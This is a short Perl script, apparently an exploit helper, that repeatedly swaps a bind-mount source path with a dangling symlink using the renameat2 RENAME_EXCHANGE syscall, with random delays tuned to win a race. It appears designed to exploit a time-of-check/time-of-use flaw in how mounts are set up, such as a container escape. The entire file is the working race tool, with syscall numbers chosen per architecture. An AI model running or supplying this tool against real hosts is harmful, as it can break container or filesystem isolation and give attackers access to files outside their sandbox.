#!/usr/bin/perl
# swap-bind.pl SOURCE LINK: exchanges a bind's source and a symlink without an end, and leaves the source in its place four times as long.
# In Perl, which every Debian image has. Numbers of renameat2: x86_64, and everywhere else.
use strict;
use warnings;

my ($from, $to) = @ARGV;
my $RENAME_EXCHANGE = 2;
my $call = `uname -m` =~ /x86_64/ ? 316 : 276;
my $swap = sub { syscall($call, -100, $from, -100, $to, $RENAME_EXCHANGE) == 0 or die "$!"; select(undef, undef, undef, rand($_[0])) };
while (1) { $swap->(0.01); $swap->(0.04) }
